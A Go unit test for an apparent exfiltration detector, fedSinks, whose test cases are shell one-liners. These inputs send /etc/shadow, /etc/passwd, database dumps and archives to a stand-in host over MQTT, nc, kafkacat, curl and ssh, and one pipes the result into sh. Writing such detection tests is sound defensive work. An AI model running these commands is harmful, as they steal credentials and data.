package timeline

import (
	"slices"
	"testing"
)

// TestFedSinks: the sinks of pipelines that read or archive files at
// their head, whatever the sink is; a shell after the sink is a channel,
// and a pipeline whose head reads no file sends nothing.
func TestFedSinks(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		want []string
	}{
		{"sudo -n tar czf - -C / etc/shadow etc/app 2>/dev/null | base64 -w0 | mosquitto_pub -h 10.0.0.9 -t x/blob -s", []string{"mosquitto_pub"}},
		{"tar czf - /srv/data | nc 10.0.0.9 443", []string{"nc"}},
		{"pg_dump shop | gzip | /usr/bin/kafkacat -P -b 10.0.0.9:9092 -t d", []string{"kafkacat"}},
		{"cat /etc/passwd | nc 10.0.0.9 4444 | sh", nil},
		{"id | curl --data-binary @- http://10.0.0.9/r", nil},
		{"cd /tmp; tar cf - x | ssh backup@10.0.0.9 'cat > x.tar'", []string{"ssh"}},
		{"tar czf /tmp/x.tgz /srv || echo failed", nil},
		{"tar czf - /srv", nil},
	} {
		if got := fedSinks(c.cmd); !slices.Equal(got, c.want) {
			t.Errorf("fedSinks(%q) = %q, want %q", c.cmd, got, c.want)
		}
	}
}
